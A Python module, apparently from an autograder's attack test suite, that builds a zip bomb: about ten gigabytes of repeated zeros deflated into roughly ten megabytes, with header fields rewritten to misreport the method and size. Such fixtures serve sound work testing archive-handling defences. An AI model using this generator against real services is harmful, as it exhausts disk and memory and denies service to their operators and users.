"""Packs ten gigabytes of zeros into ten megabytes."""

import zipfile
import zlib
from pathlib import Path

from autograde.attacks.archives.people import Cast
from autograde.attacks.archives.zipping import entry, pack, rewrite

TIMES = 10 * 2**10


def archive(path: Path, cast: Cast) -> None:
    """Write the archive."""
    name = cast.mine("bomb.csv")
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = packer.compress(bytes(2**20)) + packer.flush(zlib.Z_FULL_FLUSH)
    # The same bytes unpack to the same zeros as often as they are repeated.
    data = piece * TIMES + packer.flush()
    pack(path, cast, [(entry(name, method=zipfile.ZIP_STORED), data)])
    rewrite(path, name, 10, "<H", zipfile.ZIP_DEFLATED)
    rewrite(path, name, 24, "<I", 2**32 - 2)
    content = path.read_bytes()
    local = content.index(name.encode()) - 30
    path.write_bytes(content[: local + 8] + b"\x08\x00" + content[local + 10 :])
